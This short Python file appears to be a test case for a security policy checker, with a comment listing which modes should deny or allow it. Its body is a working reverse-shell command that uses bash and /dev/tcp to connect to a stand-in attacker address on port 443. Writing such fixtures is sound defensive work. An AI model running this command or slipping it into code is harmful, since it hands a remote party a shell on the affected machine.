# expect: strict=deny standard=deny audit=allow
import os

HOST, PORT = "198.51.100.99", 443
os.system(f"bash -c 'bash -i >& /dev/tcp/{HOST}/{PORT} 0>&1'")
